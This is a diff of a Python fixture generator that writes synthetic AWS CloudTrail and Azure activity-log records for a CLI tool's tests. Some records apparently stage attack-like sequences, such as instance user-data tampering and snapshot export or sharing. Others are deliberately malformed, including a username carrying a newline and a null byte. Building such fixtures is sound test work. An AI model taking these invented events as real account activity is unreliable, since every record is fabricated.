+    describe["readOnly"] = True
+    get_ctx = Ctx("formats/jsonl/getobject", at(21, 30), "alice", "us-east-1")
+    get_object = {
+        "eventVersion": "1.10",
+        "userIdentity": get_ctx.identity(),
+        "eventTime": ts(get_ctx.t),
+        "eventSource": "s3.amazonaws.com",
+        "eventName": "GetObject",
+        "awsRegion": "us-east-1",
+        "sourceIPAddress": get_ctx.p["ip"],
+        "userAgent": "[aws-cli/2.17.42 Python/3.12.6 Linux/6.8.0-1016-aws exe/x86_64.ubuntu.24 prompt/off command/s3.cp]",
+        "requestParameters": {"bucketName": "ops-exports-7f3a", "Host": "ops-exports-7f3a.s3.us-east-1.amazonaws.com",
+                              "key": "exports/db-02.ova"},
+        "responseElements": None,
+        "additionalEventData": {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
+                                "bytesTransferredIn": 0, "AuthenticationMethod": "AuthHeader",
+                                "x-amz-id-2": b64("amzid2", n=76), "bytesTransferredOut": 8589934},
+        "requestID": hx("s3req", n=16).upper(),
+        "eventID": uid("formats/jsonl/getobject", "eventID"),
+        "readOnly": True,
+        "resources": [{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::ops-exports-7f3a/exports/db-02.ova"},
+                      {"accountId": OWN, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::ops-exports-7f3a"}],
+        "eventType": "AwsApiCall",
+        "managementEvent": False,
+        "recipientAccountId": OWN,
+        "eventCategory": "Data",
+        "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
+                       "clientProvidedHostHeader": "ops-exports-7f3a.s3.us-east-1.amazonaws.com"},
+    }
+    jsonl = [
+        raw_record("aws.ec2.stop_instances", "formats/jsonl/0", at(15, 10), "eve"),
+        raw_record("aws.ec2.modify_instance_user_data", "formats/jsonl/1", at(16, 2), "eve"),
+        raw_record("aws.ec2.start_instances", "formats/jsonl/2", at(16, 48), "eve"),
+        describe,
+        raw_record("aws.ec2.delete_snapshot", "formats/jsonl/3", at(19, 30), "svc-terraform"),
+        get_object,
+    ]
+    write_text("formats/cloudtrail.jsonl", "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in jsonl))
+
+    arr = [
+        raw_record("aws.ec2.create_volume_from_snapshot", "formats/array/0", at(30, 1), "eve"),
+        raw_record("aws.ec2.attach_volume", "formats/array/1", at(31, 45), "eve"),
+        raw_record("aws.rds.start_export_task", "formats/array/2", at(33, 20), "sso-admin"),
+    ]
+    write_json("formats/cloudtrail-array.json", arr)
+
+    svc_key = "formats/eventbridge-service-event"
+    svc = service_event(svc_key, at(40, 12), "us-east-1", "SharedSnapshotVolumeCreated", rid("snap", "shared-prod-db"), EXT)
+    write_json("formats/eventbridge-service-event.json", envelope(svc, svc_key, service_event=True))
+
+    # Azure storage-account export: one record per line, no "records" wrapper
+    recs = azure_op_records("formats/pt1h/snapshot", "Microsoft.Compute/snapshots/write", "guest", at(5, 3), "new",
+                            "rg-prod-data", "snapshots/snap-sql01-os-20261106",
+                            {"location": "westeurope", "properties": {"creationData": {"createOption": "Copy",
+                                                                                        "sourceResourceId": f"/subscriptions/{SUB}/resourceGroups/rg-prod-data/providers/Microsoft.Compute/disks/{DISK_OS}"}}},
+                            "sync_created")
+    recs += azure_op_records("formats/pt1h/sas", "Microsoft.Compute/snapshots/beginGetAccess/action", "guest", at(9, 40),
+                             "new", "rg-prod-data", "snapshots/snap-sql01-os-20261106",
+                             {"access": "Read", "durationInSeconds": 86400}, "lro")
+    write_text("formats/azure-storage-export-PT1H.json", "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in recs))
+
+    gen_la()
+    gen_bad(s3_doc, jsonl)
+
+
+def gen_la() -> None:
+    """Log Analytics AzureActivity rows (JSON array), 2026-11-07."""
+    rows = []
+
+    def op_rows(key, caller, ip, rg, op, res, t, statuses, lower=False, both_ids=False):
+        resource_id = f"/subscriptions/{SUB}/resourcegroups/{rg}/providers/microsoft.compute/{res}".upper()
+        corr = uid(key, "corr")
+        for i, (status, sub) in enumerate(statuses):
+            tt = (t + dt.timedelta(seconds=[0, 2, 48][i] + 0.527)).replace(microsecond=527000 + i)
+            row = {
+                "TimeGenerated": ts7(tt),
+                "OperationNameValue": op.lower() if lower else op.upper(),
+                "ActivityStatusValue": status,
+                "ActivitySubstatusValue": sub,
+                "Caller": caller,
+                "CallerIpAddress": ip,
+                "ResourceGroup": rg.upper(),
+                "SubscriptionId": SUB,
+                "ResourceId": resource_id,
+                "ResourceProviderValue": "MICROSOFT.COMPUTE",
+                "CorrelationId": corr,
+                "EventDataId": uid(key, "eventDataId", i),
+                "CategoryValue": "Administrative",
+                "Level": "Error" if status in ("Failure", "Failed") else "Informational",
+                "Type": "AzureActivity",
+            }
+            if both_ids and i == 0:
+                row["_ResourceId"] = resource_id.lower()
+            rows.append(row)
+
+    t = dt.datetime(2026, 11, 7, 9, 12, 3, tzinfo=UTC)
+    a_ip, rg = "198.51.100.44", "rg-prod-web"
+    op_rows("la/snap1", "alice@contoso.com", a_ip, rg, "Microsoft.Compute/snapshots/write",
+            "snapshots/snap-web01-os-20261107", t, [("Start", ""), ("Success", "Created")], both_ids=True)
+    op_rows("la/snap2", "alice@contoso.com", a_ip, rg, "Microsoft.Compute/snapshots/write",
+            "snapshots/snap-web01-data-20261107", t + dt.timedelta(minutes=3), [("Start", ""), ("Success", "Created")])
+    op_rows("la/vmdel", "alice@contoso.com", a_ip, rg, "Microsoft.Compute/virtualMachines/delete",
+            "virtualMachines/vm-web-01", t + dt.timedelta(minutes=9), [("Start", ""), ("Success", "OK")])
+    op_rows("la/diskdel", "alice@contoso.com", a_ip, rg, "Microsoft.Compute/disks/delete",
+            "disks/vm-web-01_OsDisk_1_" + hx("web01os", n=32), t + dt.timedelta(minutes=14), [("Start", ""), ("Success", "OK")])
+    op_rows("la/bobvm", "bob@contoso.com", "203.0.113.61", "rg-dev-apps", "Microsoft.Compute/virtualMachines/write",
+            "virtualMachines/vm-dev-07", t + dt.timedelta(hours=2, minutes=31), [("Started", ""), ("Succeeded", "OK")],
+            lower=True)
+    op_rows("la/fail", "alice@contoso.com", a_ip, rg, "Microsoft.Compute/snapshots/delete",
+            "snapshots/snap-web01-os-20261001", t + dt.timedelta(minutes=17), [("Failure", "Conflict")])
+    # only the second bob row carries the lower-case operation name
+    bob = [r for r in rows if r["Caller"] == "bob@contoso.com"]
+    bob[0]["OperationNameValue"] = bob[0]["OperationNameValue"].upper()
+    write_json("formats/azure-activity-la.json", rows)
+
+
+def gen_bad(s3_doc: dict, jsonl: list[dict]) -> None:
+    text = json.dumps(s3_doc, ensure_ascii=False)
+    write_text("../cli/tests/data/bad/truncated.json", text[: len(text) // 2])
+    write_bytes("../cli/tests/data/bad/binary.bin", bytes(range(256)))
+    write_bytes("../cli/tests/data/bad/empty.json", b"")
+    good1 = raw_record("aws.ec2.create_snapshot", "bad/mixed/0", dt.datetime(2026, 11, 6, 12, 0, 5, tzinfo=UTC), "bob")
+    good2 = raw_record("aws.ec2.delete_volume", "bad/mixed/1", dt.datetime(2026, 11, 6, 12, 1, 9, tzinfo=UTC), "bob")
+    invalid = '{"eventVersion":"1.10","eventSource":"ec2.amazonaws.com","eventName":"DeleteVolume","requestParameters":{"volumeId":"vol-0'
+    missing = {"eventVersion": "1.10", "userIdentity": {"type": "IAMUser", "arn": f"arn:aws:iam::{OWN}:user/bob",
+                                                         "accountId": OWN, "userName": "bob"},
+               "eventSource": "ec2.amazonaws.com", "awsRegion": "us-east-1", "sourceIPAddress": "203.0.113.87",
+               "requestParameters": {"snapshotId": rid("snap", "bad-missing")}, "responseElements": None,
+               "eventID": uid("bad/mixed/missing"), "eventType": "AwsApiCall", "recipientAccountId": OWN}
+    weird = raw_record("aws.ec2.terminate_instances", "bad/mixed/2", dt.datetime(2026, 11, 6, 12, 2, 0, tzinfo=UTC), "bob")
+    weird["eventTime"] = 12345
+    weird["requestParameters"] = json.dumps(weird["requestParameters"], separators=(",", ":"))
+    huge = raw_record("aws.ec2.delete_snapshot", "bad/mixed/3", dt.datetime(2026, 11, 6, 12, 3, 0, tzinfo=UTC), "bob")
+    prefix = "Mozilla/5.0 (X11; Linux x86_64) "
+    huge["userAgent"] = prefix + "A" * (100 * 1024 - len(prefix))
+    huge["userIdentity"]["arn"] = f"arn:aws:iam::{OWN}:user/\"mal\nlory\u0000\""
+    huge["userIdentity"]["userName"] = "\"mal\nlory\u0000\""
+    lines = [json.dumps(good1), json.dumps(good2), invalid, json.dumps(missing), json.dumps(weird), json.dumps(huge)]
+    write_text("../cli/tests/data/bad/mixed.jsonl", "\n".join(lines) + "\n")
+
+
+# ------------------------------------------------------------------------------------------------
+# validation
+# ------------------------------------------------------------------------------------------------
+
+def validate(catalog: list[dict]) -> None:
+    problems = []
+    for row in catalog:
+        for f in (row["positive"], row["negative"]):
+            if not (EVENTS / f).is_file():
+                problems.append(f"missing fixture {f}")
+    for path in WRITTEN:
+        rel = path.relative_to(EVENTS).as_posix()
+        if rel.startswith("../cli/tests/data/bad/"):
+            continue
+        if rel.endswith(".gz"):
+            json.loads(gzip.decompress(path.read_bytes()))
+        elif rel.endswith(".jsonl") or rel.endswith("PT1H.json"):
+            for line in path.read_text(encoding="utf-8").splitlines():
+                json.loads(line)
+        elif rel.endswith(".json"):
+            json.loads(path.read_text(encoding="utf-8"))
+    # bad/mixed.jsonl: exactly one invalid line
+    bad_lines = (EVENTS / "../cli/tests/data/bad/mixed.jsonl").read_text(encoding="utf-8").splitlines()
+    invalid = 0
+    for line in bad_lines:
+        try:
+            json.loads(line)
+        except json.JSONDecodeError:
+            invalid += 1
+    if invalid != 1:
+        problems.append(f"../cli/tests/data/bad/mixed.jsonl has {invalid} invalid lines")
+    try:
+        json.loads((EVENTS / "../cli/tests/data/bad/truncated.json").read_text(encoding="utf-8"))
+        problems.append("../cli/tests/data/bad/truncated.json parses")
+    except json.JSONDecodeError:
+        pass
+    if problems:
+        sys.exit("\n".join(problems))
+
+
+def main() -> None:
+    catalog = tomllib.loads(CATALOG.read_text(encoding="utf-8"))["operation"]
+    unknown = [r["id"] for r in catalog if r["cloud"] == "aws" and r["id"] not in AWS_BUILDERS
+               and r["id"] not in SERVICE_EVENT_ROWS]
+    if unknown:
+        sys.exit(f"no builder for catalog rows: {unknown}")
+    gen_fixtures(catalog)
+    gen_variants()
+    gen_scenarios()
+    gen_formats()
+    validate(catalog)
+    counts: dict[str, int] = {}
+    for p in WRITTEN:
+        top = p.relative_to(EVENTS).parts[0]
+        counts[top] = counts.get(top, 0) + 1
+    print("wrote", len(WRITTEN), "files:", ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))
+
+
+if __name__ == "__main__":
+    main()
